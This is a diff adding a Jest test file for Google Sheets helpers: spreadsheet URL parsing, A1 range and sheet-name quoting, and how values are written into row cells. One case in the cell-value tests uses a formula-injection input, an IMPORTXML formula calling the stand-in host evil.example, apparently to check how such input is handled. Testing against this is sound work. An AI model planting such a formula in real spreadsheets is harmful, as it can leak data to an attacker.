@@ -1,0 +1,122 @@
+import {
+  columnIndex,
+  columnLetter,
+  firstRowOf,
+  parseSpreadsheetId,
+  quoteSheetName,
+  rangeOf,
+  widthOf,
+} from '../../../lib/sheets/a1';
+import {
+  buildRow,
+  cellValue,
+  headerFields,
+  resolveColumn,
+  sameCell,
+  valuesByColumn,
+} from '../../../lib/sheets/row';
+
+const ID = '1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEf';
+
+describe('spreadsheet URL or ID', () => {
+  it.each([
+    [ID],
+    [`https://docs.google.com/spreadsheets/d/${ID}/edit#gid=0`],
+    [`https://docs.google.com/spreadsheets/d/${ID}`],
+    [`https://docs.google.com/spreadsheets/u/1/d/${ID}/edit?usp=sharing`],
+    [`  ${ID}  `],
+  ])('%s', (input) => expect(parseSpreadsheetId(input)).toEqual({ id: ID }));
+
+  it.each([
+    ['', /empty/],
+    ['my orders sheet', /URL/],
+    [`https://docs.google.com/document/d/${ID}/edit`, /not a spreadsheet/],
+    [`https://drive.google.com/file/d/${ID}/view`, /drive\.google\.com/],
+    ['https://example.com/spreadsheets/d/abc', /example\.com/],
+    ['1AbC', /URL/],
+  ])('refuses %j', (input, message) =>
+    expect(parseSpreadsheetId(input)).toEqual({ problem: expect.stringMatching(message) }),
+  );
+});
+
+describe('A1 addressing', () => {
+  it.each([
+    ['Orders', "'Orders'"],
+    ["Bob's Orders", "'Bob''s Orders'"],
+    ['Q1 2026', "'Q1 2026'"],
+    ['Bestellungen März', "'Bestellungen März'"],
+    ["'quoted'", "'''quoted'''"],
+  ])('quotes %s as %s', (name, quoted) => expect(quoteSheetName(name)).toBe(quoted));
+
+  it('anchors ranges', () => expect(rangeOf("Bob's Orders", 'A1')).toBe("'Bob''s Orders'!A1"));
+
+  it.each([
+    [0, 'A'],
+    [25, 'Z'],
+    [26, 'AA'],
+    [51, 'AZ'],
+    [701, 'ZZ'],
+    [702, 'AAA'],
+  ])('column %i is %s and back', (index, letters) => {
+    expect(columnLetter(index)).toBe(letters);
+    expect(columnIndex(letters)).toBe(index);
+  });
+
+  it('knows what is not a column', () => {
+    expect(columnIndex('A1')).toBeNull();
+    expect(columnIndex('Session ID')).toBeNull();
+    expect(columnIndex('')).toBeNull();
+  });
+
+  it('reads rows and widths from ranges', () => {
+    expect(firstRowOf("'Bob''s Orders'!A6:K6")).toBe(6);
+    expect(firstRowOf('Orders!A1000')).toBe(1000);
+    expect(widthOf('Orders!A1:F10')).toBe(6);
+    expect(widthOf("'A!B'!B2:C3")).toBe(2);
+  });
+});
+
+describe('rows', () => {
+  it('labels one field per header column, keyed by letter', () => {
+    expect(headerFields(['Session ID', '', 'Email'])).toEqual([
+      { key: 'COL$A', label: 'Session ID', required: false },
+      { key: 'COL$B', label: 'Column B (no header)', required: false },
+      { key: 'COL$C', label: 'Email', required: false },
+    ]);
+  });
+
+  it('pads to the header width so gaps never shift values', () => {
+    const values = valuesByColumn({ COL$A: 'cs_1', COL$D: 'x', spreadsheet: 'ignored' });
+    expect(buildRow(values, 6)).toEqual(['cs_1', '', '', 'x', '', '']);
+  });
+
+  it.each([
+    ['=IMPORTXML("https://evil.example","//a")', '=IMPORTXML("https://evil.example","//a")'],
+    ['+1 555 0100', '+1 555 0100'],
+    ['@everyone', '@everyone'],
+    ['-', '-'],
+    ['48.60', 48.6],
+    ['-5', -5],
+    ['1042', 1042],
+    ['02134', '02134'],
+    ['1234567890123456789', '1234567890123456789'],
+    [12.5, 12.5],
+    [true, true],
+    [null, ''],
+    [['a', 'b'], 'a, b'],
+  ])('%j is written as %j', (input, written) => expect(cellValue(input)).toStrictEqual(written));
+
+  it('finds a dedupe column by header text or by letter', () => {
+    const header = ['Session ID', 'Customer Email'];
+    expect(resolveColumn('session id', header)).toBe(0);
+    expect(resolveColumn(' Customer_Email ', header)).toBe(1);
+    expect(resolveColumn('C', header)).toBe(2);
+    expect(resolveColumn('Nope Column', header)).toBeNull();
+  });
+
+  it('compares cells as text', () => {
+    expect(sameCell(1042, '1042')).toBe(true);
+    expect(sameCell(' cs_1 ', 'cs_1')).toBe(true);
+    expect(sameCell('', '')).toBe(false);
+  });
+});
